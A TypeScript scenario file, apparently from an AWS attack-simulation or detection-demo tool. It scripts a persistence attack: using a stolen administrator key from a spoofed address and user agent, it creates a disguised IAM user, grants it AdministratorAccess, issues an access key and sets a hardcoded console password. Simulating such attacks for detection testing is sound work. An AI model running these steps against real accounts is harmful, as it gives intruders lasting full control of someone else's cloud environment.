import {
  AttachUserPolicyCommand,
  CreateAccessKeyCommand,
  CreateLoginProfileCommand,
  CreateUserCommand,
  ListUsersCommand,
} from '@aws-sdk/client-iam';
import { GetCallerIdentityCommand } from '@aws-sdk/client-sts';
import { AWAY, STRANGE } from './places.ts';
import type { PlayableScenario } from './scenario.ts';
import { visit } from './visitor.ts';

export const backdoorUser: PlayableScenario = {
  id: 'backdoor-user',
  title: 'A back door is built in',
  story:
    "With Ada's administrator key somebody makes a user of their own: a harmless name, every right, a key and a password.",

  play: (aws, options) =>
    visit(
      aws,
      { credentials: aws.demo.credentials.ada, address: AWAY.anotherHosting, userAgent: STRANGE.go },
      options,
      async ({ iam, sts }, step) => {
        await step('GetCallerIdentity', () => sts.send(new GetCallerIdentityCommand({})));
        const { Users = [] } = (await step('ListUsers', () => iam.send(new ListUsersCommand({})))) ?? {};
        // The name is free again only where the remedy deleted what an earlier playing made.
        const taken = Users.filter(({ UserName: name }) => name?.startsWith('support-tools') === true).length;
        const UserName = taken === 0 ? 'support-tools' : `support-tools-${taken + 1}`;
        await step('CreateUser', () => iam.send(new CreateUserCommand({ UserName })));
        await step('AttachUserPolicy', () =>
          iam.send(new AttachUserPolicyCommand({ UserName, PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' })),
        );
        await step('CreateAccessKey', () => iam.send(new CreateAccessKeyCommand({ UserName })));
        await step('CreateLoginProfile', () =>
          iam.send(new CreateLoginProfileCommand({ UserName, Password: 'Winter-is-coming-42' })),
        );
      },
    ),
};
